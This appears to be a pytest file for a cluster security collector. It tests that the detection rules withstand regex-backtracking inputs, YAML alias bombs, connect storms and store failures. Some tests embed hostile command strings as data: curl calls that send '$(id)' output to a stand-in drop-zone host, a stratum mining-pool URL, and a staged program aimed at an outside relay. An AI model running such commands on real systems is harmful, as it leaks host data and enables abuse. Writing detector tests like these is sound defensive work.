"""The collector holds its shape under hostile load: linear regexes, bounded state, safe YAML,
a store that is checked at start and whose failures never cost an agent its spool."""

from __future__ import annotations

import os
import sqlite3
import subprocess
import threading
import time

import grpc
import pytest

from agent.identity import HostIdentity
from agent.shipper import Shipper
from agent.spool import Spool
from collector.app import CollectorApp, CollectorConfig
from collector.hub import AgentHub
from collector.policy import MAX_EVIDENCE
from collector.rules.loader import RuleError, load_ruleset, rule_texts
from collector.store.sqlite import StoreCorrupt
from gpuguard.v1 import collector_pb2 as cpb
from gpuguard.v1 import events_pb2 as pb
from lab import rss_mb
from tests.services import CLI, ROOT, agent_credential, collector_in_thread
from tests.test_collector_protocol import RawStream, batch, hello


def exec_event(seq: int, argv: list[str], job: str = "77", key: str = "k1") -> pb.Event:
    ev = pb.Event(seq=seq, ts_ns=time.time_ns(), exec=pb.Exec(filename="/bin/x", argv=argv))
    ev.process.pid, ev.process.key, ev.process.comm, ev.process.exe = 10, key, "x", "/bin/x"
    ev.job.kind, ev.job.id = "slurm", job
    return ev


def test_rule_regexes_are_re2_and_unrunnable_patterns_are_refused():
    bad = ("rules:\n  - id: r\n    description: d\n    event: exec\n"
           "    match: {argv_regex: '(a+)+\\1'}\n    action: alert\n")
    with pytest.raises(RuleError, match="RE2 cannot run"):
        load_ruleset(rule_texts(extra=(("site.yaml", bad),)))


def test_a_huge_argv_is_evaluated_and_still_matches(tmp_path):
    """112 KB of argv built to backtrack a Python regex: RE2 answers, and a stratum URL at the end is found."""
    app = CollectorApp(CollectorConfig(store=str(tmp_path / "c.db"), auth_dir=str(tmp_path / "auth")))
    argv = ["bash", "-c", "socket " * 16_000 + "x", "-o", "stratum+tcp://pool.example:3333"]
    start = time.perf_counter()
    app.policy.on_events("h1", [exec_event(1, argv)])
    print(f"\n112 KB argv through every built-in rule: {time.perf_counter() - start:.3f}s")
    assert any(a.rule_id.startswith("miner") for a in app.store.alerts())


def test_an_argv_built_against_the_host_parsers_is_evaluated_and_still_matches(tmp_path):
    """60 KB of one option naming a server-ish word over and over (`--hosthost...`), the shape that backtracked the
    named-host parsers (collector/rules/remotes.py) for ~40 s; the staged program's real endpoint after it is
    still found."""
    app = CollectorApp(CollectorConfig(store=str(tmp_path / "c.db"), auth_dir=str(tmp_path / "auth")))
    argv = ["/tmp/.x/agent", "--" + "host" * 15_000, "-server", "relay.evil-updates.example:8888"]
    start = time.perf_counter()
    app.policy.on_events("h1", [exec_event(1, argv)])
    print(f"\n60 KB option through every built-in rule: {time.perf_counter() - start:.3f}s")
    assert any(a.rule_id == "staged-program-given-outside-host" for a in app.store.alerts())


def test_a_line_of_urls_built_against_the_url_parser_is_evaluated_and_still_matches(tmp_path):
    """~45 KB of in-site URLs, each opening 200 command substitutions that never close, then one URL out with a
    command's output in it: every URL's span is bounded and read once (collector/rules/remotes.py), and the last
    one is still found."""
    app = CollectorApp(CollectorConfig(store=str(tmp_path / "c.db"), auth_dir=str(tmp_path / "auth")))
    line = ('curl "https://h.cluster.local/' + "$(" * 200 + '" ') * 100 + 'curl "https://c.drop-zone.io/?d=$(id)"'
    start = time.perf_counter()
    app.policy.on_events("h1", [exec_event(1, ["/bin/sh", "-c", line])])
    print(f"\n{len(line) // 1000} KB of URLs through every built-in rule: {time.perf_counter() - start:.3f}s")
    assert any(a.rule_id == "command-output-sent-in-url" for a in app.store.alerts())


def test_a_line_of_labels_built_against_the_host_checks_is_evaluated_and_still_matches(tmp_path):
    """~56 KB of one-letter labels in a URL's host and in an image reference, the shapes that made the host-label
    parser and the zone check (collector/rules/context.under_any) quadratic (~80 s and ~17 s); a URL whose host
    carries a command's output after them is still found."""
    app = CollectorApp(CollectorConfig(store=str(tmp_path / "c.db"), auth_dir=str(tmp_path / "auth")))
    line = ("curl http://" + "a." * 14_000 + " ; docker push " + "a." * 14_000 + "/x ; "
            "curl http://$(id -u).x.drop-zone.io/")
    start = time.perf_counter()
    app.policy.on_events("h1", [exec_event(1, ["/bin/sh", "-c", line])])
    print(f"\n{len(line) // 1000} KB of labels through every built-in rule: {time.perf_counter() - start:.3f}s")
    assert any(a.rule_id == "command-output-sent-in-url" for a in app.store.alerts())


def test_yaml_alias_bomb_is_refused_with_a_short_error():
    bomb = "lists:\n  a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
        f"  {chr(98 + i)}: &{chr(98 + i)} [*{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}]\n"
        for i in range(9))
    with pytest.raises(RuleError) as info:
        load_ruleset(rule_texts(extra=(("bomb.yaml", bomb),)))
    assert "anchors" in str(info.value) and len(str(info.value)) < 1000
    with pytest.raises(RuleError, match="exceeds"):
        load_ruleset(rule_texts(extra=(("big.yaml", "#" * (2 << 20)),)))


def test_correlator_and_alerts_stay_bounded_under_a_connect_storm(tmp_path):
    app = CollectorApp(CollectorConfig(store=str(tmp_path / "c.db"), auth_dir=str(tmp_path / "auth")))
    before = rss_mb(os.getpid())           # the collector runs in this process
    for chunk in range(100):
        events = []
        for i in range(chunk * 1000, chunk * 1000 + 1000):
            ev = pb.Event(seq=i + 1, ts_ns=time.time_ns(),
                          connect=pb.Connect(daddr="203.0.113.7", dport=3333, proto="tcp"))
            ev.process.pid, ev.process.key, ev.process.comm = 10 + i % 50, f"k{i % 50}", "trainer"
            ev.job.kind, ev.job.id = "slurm", str(i % 20)
            events.append(ev)
        app.policy.on_events("h1", events)
    corr = app.policy.correlator
    after = rss_mb(os.getpid())
    print(f"\ncollector RSS before/after 100k pool-port connects: {before:.0f} / {after:.0f} MB; "
          f"correlator hits {corr.total_hits}, evicted {corr.evicted_hits}")
    assert after - before < 150, f"RSS grew {after - before:.0f} MB over 100k connects (state must stay bounded)"
    assert corr.total_hits == 300        # one entry per (rule, host, process) per job: connect-pool-port,
    #                                      connect-mining-port and connect-out-of-cluster, 100 (process, job) pairs each
    assert all(len(a.evidence_seqs) <= MAX_EVIDENCE for a in app.policy.alerts.values())


def test_correlator_total_bound_evicts_whole_jobs_and_counts(tmp_path):
    from collector.correlate import Correlator  # noqa: PLC0415
    from collector.rules.engine import RuleMatch  # noqa: PLC0415

    rs = load_ruleset(rule_texts())
    corr = Correlator(rs, max_jobs=100, max_hits=500)
    rule = rs.rules["connect-pool-port"]
    for i in range(5000):
        ev = pb.Event(seq=i, ts_ns=i)
        ev.process.key, ev.job.id = f"k{i}", str(i % 300)
        corr.record("h", ev, [RuleMatch(rule, {})])
    assert corr.total_hits <= 500 and len(corr.jobs) <= 100
    assert corr.evicted_hits + corr.total_hits == 5000


def test_hub_drops_pushes_to_an_agent_that_does_not_read():
    import asyncio  # noqa: PLC0415

    hub = AgentHub()
    q: asyncio.Queue = asyncio.Queue(maxsize=2)
    hub.attach("h", q)
    msg = cpb.CollectorMessage(kill=cpb.KillProcess(pid=1))
    assert [hub.push("h", msg) for _ in range(4)] == [1, 1, 0, 0]
    assert hub.dropped == 2 and q.qsize() == 2


def test_stream_cap(tmp_path):
    cfg = CollectorConfig(listen="127.0.0.1:0", store=str(tmp_path / "c.db"), detection=False, max_streams=2)
    with collector_in_thread(cfg) as app:
        streams = [RawStream(app.port, host=f"cap{i}") for i in range(2)]
        for i, s in enumerate(streams):
            s.send(hello(f"cap{i}"))
            assert s.recv().HasField("hello")
        extra = RawStream(app.port, host="cap9")
        extra.send(hello("cap9"))
        with pytest.raises(grpc.RpcError) as info:
            extra.recv()
        assert info.value.code() == grpc.StatusCode.RESOURCE_EXHAUSTED
        for s in [*streams, extra]:
            s.close()


def test_corrupt_store_is_refused_at_start_with_exit_code_7(tmp_path):
    db = tmp_path / "c.db"
    con = sqlite3.connect(db)
    con.execute("CREATE TABLE t (x)")
    con.executemany("INSERT INTO t VALUES (?)", [("y" * 500,) for _ in range(200)])
    con.commit()
    con.close()
    data = bytearray(db.read_bytes())
    for page in range(1, 5):                                 # smash the b-tree page headers of the table
        data[page * 4096: page * 4096 + 12] = b"\xa5" * 12
    db.write_bytes(bytes(data))
    with pytest.raises(StoreCorrupt):
        CollectorApp(CollectorConfig(store=str(db), auth_dir=str(tmp_path / "auth")))
    junk = tmp_path / "junk.db"
    junk.write_bytes(b"this is not a database" * 100)
    out = subprocess.run([*CLI, "collector", "--store", str(junk), "--listen", "127.0.0.1:0"], capture_output=True,
                         text=True, cwd=ROOT, timeout=60)
    assert out.returncode == 7 and "store unusable" in out.stderr and "Traceback" not in out.stderr


def test_store_failure_at_runtime_keeps_the_agents_spool(tmp_path):
    cfg = CollectorConfig(listen="127.0.0.1:0", store=str(tmp_path / "c.db"), detection=False)
    with collector_in_thread(cfg) as app:
        real_ingest = app.store.ingest
        failing = threading.Event()
        failing.set()

        def ingest(host, events):
            if failing.is_set():
                raise sqlite3.OperationalError("database or disk is full")
            return real_ingest(host, events)

        app.store.ingest = ingest
        s = RawStream(app.port, host="full")
        s.send(hello("full"))
        s.recv()
        s.send(batch(1, 2))
        err = s.recv().error
        assert err.code == "UNAVAILABLE" and "disk is full" in err.message and err.retry_after_ms > 0
        with pytest.raises(grpc.RpcError) as info:
            s.recv()                                          # no ack; the stream ends so the agent backs off
        assert info.value.code() == grpc.StatusCode.UNAVAILABLE
        s.close()

        spool = Spool(tmp_path / "spool")
        spool.append([pb.Event(ts_ns=time.time_ns(), boot_id="b", exit=pb.Exit(code=i)) for i in range(5)])
        shipper = Shipper(f"127.0.0.1:{app.port}", spool, HostIdentity("full2", "full2", "b"),
                          token=agent_credential("full2"))
        threading.Thread(target=shipper.run, daemon=True).start()
        deadline = time.monotonic() + 10
        while shipper.retry_after_s == 0 and shipper.reconnects == 0 and time.monotonic() < deadline:
            time.sleep(0.02)
        assert spool.depth() == 5                             # refused while the store fails: all kept
        failing.clear()
        deadline = time.monotonic() + 20
        while spool.depth() and time.monotonic() < deadline:
            time.sleep(0.05)
        shipper.stop()
        assert spool.depth() == 0
        stored = app.store.db.execute("SELECT COUNT(*) FROM events WHERE host_id='full2'").fetchone()[0]
        assert stored == 5


def test_a_job_of_long_command_lines_is_read_in_pages(tmp_path):
    """2,000 execs with 16 KiB command lines (32 MB of argv: twice gRPC's largest message): stored with the argv
    once per exec, and `gpuguard timeline` reads it whole, page by byte-bounded page; --limit 500 gives 500."""
    import json  # noqa: PLC0415

    from tests.services import stream_events  # noqa: PLC0415

    cfg = CollectorConfig(listen="127.0.0.1:0", store=str(tmp_path / "c.db"))
    n, arg = 2_000, "A" * 16_384
    with collector_in_thread(cfg) as app:
        events = []
        for i in range(1, n + 1):
            ev = exec_event(i, ["/bin/x", arg, str(i)], job="longargv", key=f"k{i}")
            ev.process.argv.extend(ev.exec.argv)               # as the agent sends it: argv in both places
            events.append(ev)
        assert stream_events(app.port, "h1", events, batch_size=200, timeout=120) == n
        body = sqlite3.connect(tmp_path / "c.db").execute("SELECT MAX(LENGTH(body)) FROM events").fetchone()[0]
        assert 16_384 < body < 2 * 16_384, body                  # the argv once, not twice
        base = [*CLI, "timeline", "longargv", "--collector", f"127.0.0.1:{app.port}", "--json"]
        whole = subprocess.run(base, capture_output=True, text=True, cwd=ROOT, timeout=300)
        assert whole.returncode == 0, whole.stderr[-2000:]
        got = json.loads(whole.stdout)["events"]
        assert [int(e["event"]["exec"]["argv"][2]) for e in got] == list(range(1, n + 1))
        assert got[0]["event"]["process"]["argv"][1] == arg     # the process's argv is given back whole
        some = subprocess.run([*base, "--limit", "500"], capture_output=True, text=True, cwd=ROOT, timeout=300)
        assert some.returncode == 0 and len(json.loads(some.stdout)["events"]) == 500, some.stderr[-2000:]
